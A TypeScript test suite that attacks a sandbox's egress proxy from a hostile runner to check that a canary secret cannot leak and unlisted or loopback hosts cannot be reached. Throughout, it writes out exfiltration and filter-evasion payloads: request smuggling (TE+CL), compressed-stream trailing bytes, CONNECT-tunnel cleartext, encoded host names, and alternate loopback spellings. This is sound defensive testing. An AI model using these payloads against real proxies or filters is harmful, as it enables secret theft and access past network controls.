// An outside attack on the egress proxy under the run's policy (docs/approvals.md §6 "Egress"), kept as tests: a
// hostile bwrap runner speaks raw bytes to 127.0.0.1:3128; the receivers are raw TCP servers on loopback that record
// every byte they get. The host knows the secret (a model key reference) and the run is not tainted, so the scan is
// the only guard for listed destinations. The first version let four of these through (an upper-case header name,
// bytes after a deflate or br stream, a cleartext request in a tunnel, a percent-encoded or upper-case host name).
import { createServer, type Server, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chatEvent, tempHost } from '../helpers/host.js';
import { rawDb } from '../helpers/rawDb.js';
import { filesContaining } from '../helpers/canary.js';
import { listApprovals, decideApproval } from '../../host/state/approvals.js';

// All lower-case, like most real API keys (hex tokens, sk-… keys).
const CANARY = 'sk-live-attackcanary-0123456789abcdefghij';
process.env.PADDOCK_TEST_EGRESS_ATTACK_KEY = CANARY;
const REV = [...CANARY].reverse().join('');
const host = tempHost({ limits: { wallClockMs: 90_000 } });

type Recv = { server: Server; port: number; got: string[] };
async function receiver(address = '127.0.0.1', port = 0): Promise<Recv> {
  const got: string[] = [];
  const server = createServer((s: Socket) => {
    let buf = '';
    s.on('data', (d: Buffer) => {
      buf += d.toString('latin1');
      got.push(d.toString('latin1'));
      if (/\r\n\r\n/.test(buf)) s.write('HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok');
    });
    s.on('error', () => undefined);
  });
  await new Promise<void>((r) => server.listen({ host: address, port, ipv6Only: address.includes(':') }, r));
  return { server, port: (server.address() as AddressInfo).port, got };
}
let A: Recv; // listed destination
let B: Recv; // NOT listed
let B6: Recv; // NOT listed, ::1 on B's port

beforeAll(async () => {
  A = await receiver();
  B = await receiver();
  B6 = await receiver('::1', B.port);
  const b = (id: string, egress: string[], allowPrivate: boolean, approvalPolicy: 'ask' | 'deny') => ({
    id,
    runner: 'speaks-raw-egress',
    route: { bot: id },
    sandbox: 'bwrap' as const,
    grants: { approval: true },
    network: { egress, allowPrivate },
    approvalPolicy,
  });
  host.apply({
    resources: {
      models: [{ id: 'k', provider: 'anthropic', model: 'm', apiKey: { env: 'PADDOCK_TEST_EGRESS_ATTACK_KEY' } }],
    },
    bindings: [
      b('listed', [`127.0.0.1:${A.port}`], true, 'deny'),
      b('bare', ['localhost'], true, 'deny'),
      b('public', [], false, 'ask'),
      b('asks', [`127.0.0.1:${A.port}`], true, 'ask'),
    ],
  });
  expect(host.redactor.text(`x ${CANARY} y`)).not.toContain(CANARY); // the host knows it
});
afterAll(async () => {
  await host.close();
  for (const r of [A, B, B6]) r.server.close();
});

type Part = string | { gzip?: Part[]; deflate?: Part[]; br?: Part[]; len?: Part[]; hexlen?: Part[] };
type Case = { name: string; chunks: Part[][]; gapMs?: number; waitMs?: number };
/** Decide every pending approval of the run as `outcome` until it ends; what each showed the approver. */
async function decideAll(runId: string, outcome: 'approved' | 'denied', ended: () => boolean): Promise<string[]> {
  const seen: string[] = [];
  while (!ended()) {
    for (const row of listApprovals(host.store, { runId, status: 'pending', limit: 20 })) {
      seen.push(`${row.effect} ${row.target.kind} ${row.target.value}`);
      decideApproval(host.store, row.id, { outcome, by: 'user:test-approver', at: new Date().toISOString() });
    }
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  return seen;
}

async function attack(bot: string, cases: Case[], approve?: 'approved' | 'denied') {
  const ticket = await host.dispatcher.dispatch(
    chatEvent({ bot, text: JSON.stringify({ rev: REV, cases }), conversation: { id: `c-${Math.random()}` } }),
  );
  if (ticket.status === 'duplicate') throw new Error('duplicate');
  let over = false;
  const approver = approve ? decideAll(ticket.runId, approve, () => over) : Promise.resolve([]);
  const outcome = await ticket.done.finally(() => (over = true));
  const asked = await approver;
  expect(outcome.status, outcome.reason).toBe('completed');
  return {
    runId: ticket.runId,
    asked,
    results: JSON.parse((outcome.result?.output?.parts[0] as { text: string }).text) as Record<string, string>,
  };
}
const post = (target: string, headers: string[], body: Part[]): Part[] => [
  `POST ${target} HTTP/1.1\r\nhost: x\r\n${headers.map((h) => `${h}\r\n`).join('')}content-length: `,
  { len: body },
  '\r\n\r\n',
  ...body,
];
const stored = () =>
  (
    rawDb(host.store).prepare('SELECT data FROM events UNION ALL SELECT data FROM audit').pluck().all() as string[]
  ).join('\n');

describe('egress attack (outside): the scan', () => {
  it('a secret in a plain-HTTP body to the listed destination is blocked', async () => {
    const before = A.got.length;
    const { results } = await attack('listed', [
      { name: 'plain', chunks: [post(`http://127.0.0.1:${A.port}/plain`, [], ['k={S}'])] },
    ]);
    expect(results.plain).toMatch(/^HTTP\/1.1 403/);
    expect(A.got.slice(before).join('')).not.toContain(CANARY);
  });

  it('a secret written upper-case as a header name (the proxy sends it lower-cased) is blocked', async () => {
    const before = A.got.length;
    const { results } = await attack('listed', [
      { name: 'hdrname', chunks: [post(`http://127.0.0.1:${A.port}/hdr`, ['{SU}: 1'], ['nothing'])] },
    ]);
    expect(results.hdrname).toMatch(/^HTTP\/1.1 403 .*carry a secret value the host knows/s);
    const got = A.got.slice(before).join('');
    expect(got).not.toContain(CANARY);
  });

  it('a deflate or br body with the secret after its compressed stream is refused, not sent', async () => {
    const before = A.got.length;
    const { results } = await attack('listed', [
      {
        name: 'deflate',
        chunks: [
          post(`http://127.0.0.1:${A.port}/deflate`, ['content-encoding: deflate'], [{ deflate: ['hi'] }, 'k={S}']),
        ],
      },
      {
        name: 'br',
        chunks: [post(`http://127.0.0.1:${A.port}/br`, ['content-encoding: br'], [{ br: ['hi'] }, 'k={S}'])],
      },
      {
        name: 'gzip',
        chunks: [post(`http://127.0.0.1:${A.port}/gzip`, ['content-encoding: gzip'], [{ gzip: ['hi'] }, 'k={S}'])],
      },
    ]);
    expect(results.deflate).toMatch(/^HTTP\/1.1 415 .*bytes after its deflate stream/s);
    expect(results.br).toMatch(/^HTTP\/1.1 415 .*bytes after its br stream/s);
    expect(results.gzip).toMatch(/^HTTP\/1.1 415 /);
    const got = A.got.slice(before).join('');
    expect(got).not.toContain(CANARY);
  });

  it('a tunnel to the listed plain-HTTP port carrying a cleartext request with the secret is closed', async () => {
    const before = A.got.length;
    const { results } = await attack('listed', [
      {
        name: 'tunnel',
        chunks: [
          [`CONNECT 127.0.0.1:${A.port} HTTP/1.1\r\nhost: 127.0.0.1:${A.port}\r\n\r\n`],
          ['GET /k={S} HTTP/1.1\r\nhost: a\r\n\r\n'],
        ],
        gapMs: 300,
      },
    ]);
    // The tunnel opened (the destination is listed), then closed at the chunk that carried the secret.
    expect(results.tunnel).toBe('HTTP/1.1 200 Connection Established\r\n\r\n');
    expect(A.got.slice(before).join('')).not.toContain(CANARY);
  });

  it('a host name spelling the secret percent-encoded or upper-case is blocked before anybody is asked', async () => {
    const { asked, results } = await attack(
      'public',
      [
        { name: 'fullwidth', chunks: [post(`http://{SFW}.localhost:${B.port}/`, [], ['x'])] },
        { name: 'pct', chunks: [post(`http://{SPCT}.localhost:${B.port}/`, [], ['x'])] },
        { name: 'upper', chunks: [post(`http://{SU}.localhost:${B.port}/`, [], ['x'])] },
      ],
      'denied',
    );
    // A request (line, headers, host name) holding a secret value is blocked at once, before anything is asked.
    expect(asked).toEqual([]);
    expect(results.fullwidth).toMatch(/^HTTP\/1.1 400/); // Node's parser refuses non-ASCII
    for (const r of [results.pct, results.upper]) expect(r).toMatch(/secret value/);
  });

  // pipelined: the receiver answers `connection: close`, which the proxy passes on, so the second request was never
  // read (inconclusive, but nothing leaked); every other case here held.
  it('pipelining, chunked splits, trailers, TE+CL, HTTP/1.0, expect-continue, gzip twice, split headers', async () => {
    const before = A.got.length;
    const t = `http://127.0.0.1:${A.port}`;
    await attack('listed', [
      {
        name: 'pipelined',
        chunks: [[...post(`${t}/one`, [], ['clean']), ...post(`${t}/two`, [], ['k={S}'])]],
      },
      {
        name: 'chunksplit',
        chunks: [
          [
            `POST ${t}/cs HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n`,
            { hexlen: ['{S1}'] },
            '\r\n{S1}\r\n',
          ],
          [{ hexlen: ['{S2}'] }, '\r\n{S2}\r\n0\r\n\r\n'],
        ],
      },
      {
        name: 'trailer',
        chunks: [
          [
            `POST ${t}/tr HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\ntrailer: x-k\r\n\r\n`,
            '2\r\nhi\r\n0\r\nx-k: {S}\r\n\r\n',
          ],
        ],
      },
      {
        name: 'te+cl',
        chunks: [
          [
            `POST ${t}/tecl HTTP/1.1\r\nhost: x\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n`,
            `POST ${t}/smug HTTP/1.1\r\nx-k: {S}\r\ncontent-length: 0\r\n\r\n`,
          ],
        ],
      },
      { name: 'http10', chunks: [[`GET ${t}/{S} HTTP/1.0\r\n\r\n`]] },
      {
        name: 'expect',
        chunks: [
          [
            `POST ${t}/exp HTTP/1.1\r\nhost: x\r\nexpect: 100-continue\r\ncontent-length: `,
            { len: ['k={S}'] },
            '\r\n\r\n',
          ],
          ['k={S}'],
        ],
        gapMs: 300,
      },
      {
        name: 'gzgz',
        chunks: [post(`${t}/gzgz`, ['content-encoding: gzip, gzip'], [{ gzip: [{ gzip: ['k={S}'] }] }])],
      },
      {
        name: 'idgz',
        chunks: [post(`${t}/idgz`, ['content-encoding: identity', 'content-encoding: gzip'], [{ gzip: ['k={S}'] }])],
      },
      { name: 'splitheaders', chunks: [post(`${t}/sh`, ['x-k: {S1}', 'x-k: {S2}'], ['x'])] },
      { name: 'hash', chunks: [[`GET ${t}/#{S} HTTP/1.1\r\nhost: x\r\n\r\n`]] },
      { name: 'userinfo', chunks: [[`GET http://{S}@127.0.0.1:${A.port}/ui HTTP/1.1\r\nhost: x\r\n\r\n`]] },
      {
        name: 'b64',
        chunks: [post(`${t}/b64`, [], [Buffer.from(`KEY=${CANARY}`).toString('base64').split('').reverse().join('')])],
      },
    ]);
    const got = A.got.slice(before).join('');
    expect(got).not.toContain(CANARY);
    expect(got).not.toMatch(/\/smug/);
  });
});

describe('egress attack (outside): destinations', () => {
  it('port and name tricks against a bare-domain list and a listed host:port reach nothing unlisted', async () => {
    const q = B.port;
    const t = (target: string) => [[`GET ${target} HTTP/1.1\r\nhost: x\r\n\r\n`]] as Part[][];
    const c = (target: string) =>
      [[`CONNECT ${target} HTTP/1.1\r\nhost: ${target}\r\n\r\n`], ['GET /in-tunnel HTTP/1.1\r\n\r\n']] as Part[][];
    const cases: Case[] = [
      { name: 'port', chunks: t(`http://localhost:${q}/p`) },
      { name: 'upper', chunks: t(`http://LOCALHOST:${q}/u`) },
      { name: 'dot', chunks: t(`http://localhost.:${q}/d`) },
      { name: 'userinfo', chunks: t(`http://localhost:80@localhost:${q}/ui`) },
      { name: 'c-port', chunks: c(`localhost:${q}`) },
      { name: 'c-0port', chunks: c(`localhost:0${q}`) },
      { name: 'c-dot', chunks: c(`localhost.:${q}`) },
      { name: 'c-two', chunks: c(`localhost:443:${q}`) },
      { name: 'c-v6', chunks: c(`[::1]:${q}`) },
      { name: 'c-noport', chunks: c(`localhost`) },
      { name: 'c-space', chunks: [[`CONNECT localhost:443 ${q} HTTP/1.1\r\n\r\n`]] },
      { name: 'c-plus', chunks: c(`localhost:+${q}`) },
    ];
    const before = B.got.length + B6.got.length;
    await attack('bare', cases);
    expect(B.got.length + B6.got.length).toBe(before);
    await attack('listed', [
      {
        name: 'hostmismatch',
        chunks: [[`GET http://127.0.0.1:${A.port}/hm HTTP/1.1\r\nhost: 127.0.0.1:${q}\r\n\r\n`]],
      },
      { name: 'ui', chunks: t(`http://127.0.0.1:${A.port}@127.0.0.1:${q}/`) },
      { name: 'origin', chunks: [[`GET / HTTP/1.1\r\nhost: 127.0.0.1:${q}\r\n\r\n`]] },
      { name: 'c-v4mapped', chunks: c(`[::ffff:127.0.0.1]:${A.port}`) },
      { name: 'c-0', chunks: c(`0:${q}`) },
      {
        name: 'c-A-then-B',
        chunks: [[`CONNECT 127.0.0.1:${A.port} HTTP/1.1\r\n\r\nCONNECT 127.0.0.1:${q} HTTP/1.1\r\n\r\n`]],
      },
    ]);
    expect(B.got.length + B6.got.length).toBe(before);
  });

  it('an approved run without allowPrivate cannot reach loopback by any spelling', async () => {
    const q = B.port;
    const c = (target: string) =>
      [[`CONNECT ${target} HTTP/1.1\r\n\r\n`], ['GET /in-tunnel HTTP/1.1\r\n\r\n']] as Part[][];
    const t = (target: string) => [[`GET ${target} HTTP/1.1\r\nhost: x\r\n\r\n`]] as Part[][];
    const cases: Case[] = [
      '0.0.0.0',
      '0',
      '[::]',
      '[::ffff:127.0.0.1]',
      '[::ffff:7f00:1]',
      '2130706433',
      '0x7f.1',
      '127.1',
      '[::1%lo]',
      '[::1%1]',
      '[::127.0.0.1]',
      'localhost',
      '[0:0:0:0:0:ffff:7f00:1]',
      '[64:ff9b::7f00:1]',
    ].flatMap((h, i) => [
      { name: `c${i}-${h}`, chunks: c(`${h}:${q}`) },
      { name: `t${i}-${h}`, chunks: t(`http://${h}:${q}/t${i}`) },
    ]);
    const before = B.got.length + B6.got.length;
    const { asked } = await attack('public', cases, 'approved');
    expect(asked.length).toBeGreaterThan(0); // approved, so the private-address rule is what refuses them
    expect(B.got.length + B6.got.length).toBe(before);
  });
});

describe('egress attack (outside): stored bytes', () => {
  it('no stored byte holds the canary', () => {
    expect(stored()).not.toContain(CANARY);
    expect(filesContaining(host.dataDir, CANARY)).toEqual([]);
  });
});
